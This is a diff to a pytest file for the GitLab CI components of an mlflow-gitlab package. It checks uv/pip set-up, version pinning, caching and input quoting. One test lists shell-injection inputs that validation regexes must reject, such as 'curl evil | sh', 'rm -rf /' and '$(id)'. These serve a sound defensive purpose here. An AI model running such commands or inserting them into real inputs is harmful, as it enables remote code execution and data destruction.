@@ -40,9 +40,9 @@ def test_every_input_is_typed_described_and_used(path: Path):
             assert spec.get("default", spec["options"][0]) in spec["options"], name
         if "regex" in spec and "default" in spec:
             assert re.fullmatch(spec["regex"], str(spec["default"])), name
-    for required in ("stage", "job-prefix", "image", "version", "rules", "token-variable"):
+    for required in ("stage", "job-prefix", "image", "version", "install", "index-url", "rules",
+                     "token-variable"):
         assert required in inputs, required
-    assert inputs["version"]["default"] == __version__  # package and components release together
 
 
 @pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
@@ -118,3 +118,190 @@ def test_the_spool_artifact_is_where_the_relay_spools():
     from mlflow_gitlab.relay.config import SPOOL_DEFAULT
 
     assert f"{SPOOL_DEFAULT.as_posix()}/" == SPOOL_ARTIFACT
+
+
+# --- job set-up, one source of truth, safe inputs, pipeline kinds ------------------------
+
+CLASSIC = ROOT / "templates" / "mlflow-gitlab.yml"
+INPUT = re.compile(r"\$\[\[ inputs\.([\w-]+) \]\]")
+
+
+def the_job(path: Path) -> dict:
+    _, jobs = spec_and_jobs(path)
+    (job,) = jobs.values()
+    return job
+
+
+def test_the_classic_templates_and_set_up_blocks_are_generated_and_current():
+    script = ROOT / "scripts" / "ci_templates.py"
+    result = subprocess.run([sys.executable, str(script), "--check"], capture_output=True,
+                            text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+
+
+@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
+def test_a_template_job_runs_the_commands_of_its_component(path: Path):
+    """`extends: .mlflow-gitlab-<name>` runs what the component runs with its defaults."""
+    inputs, _ = spec_and_jobs(path)
+    component = the_job(path)
+    template = yaml.safe_load(CLASSIC.read_text())[f".mlflow-gitlab-{path.stem}"]
+
+    def with_defaults(line: str) -> str:
+        return INPUT.sub(lambda m: str(inputs[m[1]].get("default", "")), line)
+
+    assert template["script"] == [with_defaults(line) for line in component["script"]]
+    assert "$[[" not in CLASSIC.read_text()  # no inputs or component context outside the catalog
+    for key in ("stage", "image"):
+        assert template[key] == inputs[key]["default"]
+    assert template["rules"] == inputs["rules"]["default"]
+    assert set(template["variables"]) == set(component["variables"])
+    assert all(isinstance(v, str) for v in template["variables"].values())  # GitLab's rule
+
+
+@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
+def test_the_project_include_file_is_the_component_without_its_context(path: Path):
+    """`include: project:` cannot interpolate `component.*` (GitLab refuses the file), so
+    templates/<name>.yml is the component minus its context, same inputs and same jobs."""
+    inputs, jobs = spec_and_jobs(path)
+    text = (ROOT / "templates" / path.name).read_text()
+    assert "component." not in text.split("\n---\n", 1)[1]
+    header, plain_jobs = yaml.safe_load_all(text)
+    assert "component" not in header["spec"] and header["spec"]["inputs"] == inputs
+    (job,), (plain,) = jobs.values(), plain_jobs.values()
+    assert plain["script"] == job["script"]
+    assert plain["variables"]["MLFLOW_GITLAB_SETUP_COMPONENT_VERSION"] == ""
+
+
+def test_every_job_sets_up_the_same_way_with_uv_a_pip_fallback_and_a_release_cache():
+    jobs = [the_job(path) for path in TEMPLATES]
+    setups = [[line for line in job["script"] if "SETUP" in line or "UV" in line]
+              for job in jobs]
+    assert all(setup == setups[0] for setup in setups)
+    text = "\n".join(setups[0])
+    assert '"$UV" pip install --python' in text and "python -m pip install" in text
+    assert all(job["cache"] == jobs[0]["cache"] for job in jobs)
+    assert jobs[0]["cache"]["key"] == "mlflow-gitlab-setup-$MLFLOW_GITLAB_SETUP_RELEASE"
+    for job in jobs:
+        variables = job["variables"]
+        assert variables["MLFLOW_GITLAB_SETUP_RELEASE"] == __version__  # released together
+        assert variables["MLFLOW_GITLAB_SETUP_COMPONENT_VERSION"] == "$[[ component.version ]]"
+        assert variables["UV_CACHE_DIR"].startswith("$CI_PROJECT_DIR/.mlflow-gitlab/cache/")
+        assert variables["PIP_CACHE_DIR"].startswith("$CI_PROJECT_DIR/.mlflow-gitlab/cache/")
+    for path in TEMPLATES:  # the context must be declared, or GitLab refuses to interpolate it
+        header = yaml.safe_load(path.read_text().split("\n---\n", 1)[0])
+        assert header["spec"]["component"] == ["version"]
+
+
+FAKE_PYTHON = """#!/bin/sh
+log() { for a in "$@"; do printf '%s\\037' "$a"; done >> "$CALLS"; echo >> "$CALLS"; }
+log python "$@"
+if [ "$3" = install ] && [ "$4" = --quiet ] && [ -z "$FAKE_NO_UV" ]; then
+  for a in "$@"; do [ "$prev" = --target ] && target="$a"; prev="$a"; done
+  if [ -n "$target" ]; then  # `pip install --target DIR uv` puts uv in DIR/bin
+    mkdir -p "$target/bin"
+    cp "$FAKE_UV" "$target/bin/uv"
+    chmod +x "$target/bin/uv"
+  fi
+fi
+[ -n "$target" ] && [ -n "$FAKE_NO_UV" ] && exit 1
+exit 0
+"""
+
+
+FAKE_UV = """#!/bin/sh
+for a in uv "$@"; do printf '%s\\037' "$a"; done >> "$CALLS"; echo >> "$CALLS"
+"""
+
+
+def run_set_up(tmp_path: Path, **variables: str) -> list[list[str]]:
+    """Run a job's set-up lines in sh with `python` (and the uv pip installs) standing in
+    for the real ones; return the argument lists they were called with."""
+    fake = tmp_path / "bin"
+    fake.mkdir(exist_ok=True)
+    (fake / "python").write_text(FAKE_PYTHON)
+    (fake / "python").chmod(0o755)
+    (fake / "uv").write_text(FAKE_UV)
+    calls = tmp_path / "calls"
+    calls.write_text("")
+    job = the_job(ROOT / "ci-components" / "templates" / "train.yml")
+    env = {"PATH": f"{fake}:/usr/bin:/bin", "MLFLOW_GITLAB_SETUP_RELEASE": __version__,
+           "CI_PROJECT_DIR": str(tmp_path / "project"), "CALLS": str(calls),
+           "FAKE_UV": str(fake / "uv"), **variables}
+    lines = [line for line in job["script"] if "SETUP" in line or "UV" in line]
+    subprocess.run(["sh", "-ec", "\n".join(lines)], env=env, check=True, timeout=30)
+    return [line.split("\x1f")[:-1] for line in calls.read_text().splitlines()]
+
+
+def test_uv_is_installed_once_into_the_cache(tmp_path: Path):
+    first = run_set_up(tmp_path)
+    assert ["--target", str(tmp_path / "project/.mlflow-gitlab/cache/uv-tool"), "uv"] == \
+        [a for call in first if "--target" in call for a in call][-3:]
+    again = run_set_up(tmp_path)  # a warm cache: uv is there
+    assert not any("--target" in call for call in again)
+    # into the job's `python`, a system one or a venv's, as pip would
+    assert again[-1][:5] == ["uv", "pip", "install", "--python", str(tmp_path / "bin/python")]
+
+
+def test_set_up_pins_the_component_version_then_the_release(tmp_path: Path):
+    calls = run_set_up(tmp_path, MLFLOW_GITLAB_SETUP_COMPONENT_VERSION="0.3.1")
+    assert calls[-1][:4] == ["uv", "pip", "install", "--python"]
+    assert "mlflow-gitlab==0.3.1" in calls[-1]
+    calls = run_set_up(tmp_path, MLFLOW_GITLAB_SETUP_COMPONENT_VERSION="")  # a SHA ref
+    assert f"mlflow-gitlab=={__version__}" in calls[-1]
+
+
+def test_set_up_quotes_the_install_spec_and_index_and_splits_only_requirements(tmp_path):
+    index = "https://gitlab.example.com/api/v4/projects/42/packages/pypi/simple"
+    calls = run_set_up(tmp_path, MLFLOW_GITLAB_SETUP_INSTALL="mlflow-gitlab>=0.1,<0.2",
+                       MLFLOW_GITLAB_SETUP_INDEX_URL=index,
+                       MLFLOW_GITLAB_SETUP_REQUIREMENTS="-r requirements.txt")
+    install = calls[-1]
+    assert install[-3:] == ["mlflow-gitlab>=0.1,<0.2", "-r", "requirements.txt"]
+    assert install[install.index("--extra-index-url") + 1] == index
+
+
+def test_without_uv_pip_installs_the_package_from_the_index_alone_first(tmp_path: Path):
+    index = "https://gitlab.example.com/api/v4/projects/42/packages/pypi/simple"
+    calls = run_set_up(tmp_path, FAKE_NO_UV="1", MLFLOW_GITLAB_SETUP_INDEX_URL=index)
+    first, second = calls[-2], calls[-1]
+    assert first[:4] == second[:4] == ["python", "-m", "pip", "install"]
+    spec = f"mlflow-gitlab=={__version__}"
+    # the package itself only from the index (no name squatting on PyPI wins), then its
+    # dependencies from PyPI, the package being already satisfied
+    assert "--no-deps" in first and first[first.index("--index-url") + 1] == index
+    assert first[-1] == spec and second[-1] == spec and "--index-url" not in second
+
+
+@pytest.mark.parametrize(("name", "value"), [
+    ("install", 'mlflow-gitlab"; curl evil | sh; "'), ("install", "mlflow-gitlab==$(id)"),
+    ("index-url", "https://x/simple --trusted-host x"), ("index-url", "https://x/`id`"),
+    ("requirements", "-r requirements.txt; rm -rf /"), ("requirements", "$(id)"),
+    ("version", "1.0 && id"), ("token-variable", "A}; id; #"),
+])
+def test_inputs_that_reach_the_shell_refuse_shell_syntax(name: str, value: str):
+    inputs, _ = spec_and_jobs(ROOT / "ci-components" / "templates" / "train.yml")
+    assert not re.fullmatch(inputs[name]["regex"], value)
+
+
+@pytest.mark.parametrize("path", TEMPLATES, ids=lambda p: p.stem)
+def test_free_text_inputs_reach_the_shell_only_as_quoted_variables(path: Path):
+    job = the_job(path)
+    for line in job["script"]:
+        assert set(INPUT.findall(line)) <= {"token-variable"}, line  # regex-checked name
+    for line in job["script"]:
+        for variable in re.findall(r"\$\{?(MLFLOW_GITLAB_JOB_\w+)", line):
+            assert f'"${variable}"' in line, (variable, line)
+
+
+def test_merge_trains_repeat_no_fan_out_report_or_prerelease():
+    never = {"if": '$CI_MERGE_REQUEST_EVENT_TYPE == "merge_train"', "when": "never"}
+    for name in ("tune", "report", "release"):
+        inputs, _ = spec_and_jobs(ROOT / "ci-components" / "templates" / f"{name}.yml")
+        assert inputs["rules"]["default"][0] == never, name
+
+
+def test_the_fan_out_is_interruptible_and_the_template_leaves_its_matrix_to_the_user():
+    assert the_job(ROOT / "ci-components" / "templates" / "tune.yml")["interruptible"] is True
+    template = yaml.safe_load(CLASSIC.read_text())[".mlflow-gitlab-tune"]
+    assert template["interruptible"] is True
+    assert "parallel" not in template  # the extending job gives `parallel: matrix:`
